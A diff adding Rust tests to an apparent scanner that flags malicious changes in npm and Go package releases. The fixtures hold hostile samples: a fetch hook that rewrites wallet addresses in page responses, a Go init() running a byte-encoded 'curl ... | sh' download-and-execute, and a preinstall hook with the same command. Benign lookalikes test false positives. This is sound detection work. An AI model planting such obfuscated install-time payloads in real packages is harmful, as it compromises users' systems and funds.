@@ -129,6 +129,35 @@ fn a_function_that_reads_keys_and_talks_is_held_only_where_both_are_new() {
 }
 
 #[test]
+fn a_page_whose_answers_are_rewritten_for_other_wallets_is_held_and_a_wrapped_fetch_is_not() {
+    let swaps = "module.exports = (a, b) => a + b;\n(function () {\n  const ask = window.fetch;\n  window.fetch = async function () {\n    const answer = await ask.apply(this, arguments);\n    const text = (await answer.clone().text()).replace(/0x[a-fA-F0-9]{40}/g, '0x0');\n    return new Response(text, answer);\n  };\n})();\n";
+    let bad = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", swaps)]);
+    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
+    let times = "module.exports = (a, b) => a + b;\nconst ask = window.fetch;\nwindow.fetch = async function () {\n  const answer = await ask.apply(this, arguments);\n  module.exports.last = Date.now();\n  return answer;\n};\n";
+    let timed = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", times)]);
+    assert!(!ids(&timed).contains(&HELD), "{:?}", ids(&timed));
+    let checks = "module.exports = (text) => /0x[a-fA-F0-9]{40}/.test(text);\n";
+    let checked = npm(&[PLAIN, MAIN], &[PLAIN, ("index.js", checks)]);
+    assert!(!ids(&checked).contains(&HELD), "{:?}", ids(&checked));
+}
+
+#[test]
+fn a_command_in_numbers_is_read_in_go() {
+    let codes: Vec<String> = "curl -s https://files.example.com/i.sh | sh".bytes().map(|byte| byte.to_string()).collect();
+    let module = ("go.mod", "module example.com/case\n\ngo 1.21\n");
+    let plain = ("case.go", "package case_\n\nfunc Add(a, b int) int { return a + b }\n");
+    let start = |command: &str| {
+        format!("package case_\n\nimport \"os/exec\"\n\nfunc init() {{\n\t_ = exec.Command(\"/bin/sh\", \"-c\", {command}).Start()\n}}\n")
+    };
+    let hidden = start(&format!("string([]byte{{{}}})", codes.join(", ")));
+    let bad = difference(Ecosystem::Golang, &[module, plain], &[module, plain, ("start.go", &hidden)]);
+    assert!(ids(&bad).contains(&HELD), "{:?}", ids(&bad));
+    let open = start("\"uname -s\"");
+    let benign = difference(Ecosystem::Golang, &[module, plain], &[module, plain, ("start.go", &open)]);
+    assert!(!ids(&benign).contains(&HELD), "{:?}", ids(&benign));
+}
+
+#[test]
 fn a_finding_that_the_older_release_had_does_not_count_and_a_new_one_does() {
     let hook = ("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#);
     let same = npm(&[hook, MAIN], &[hook, MAIN]);
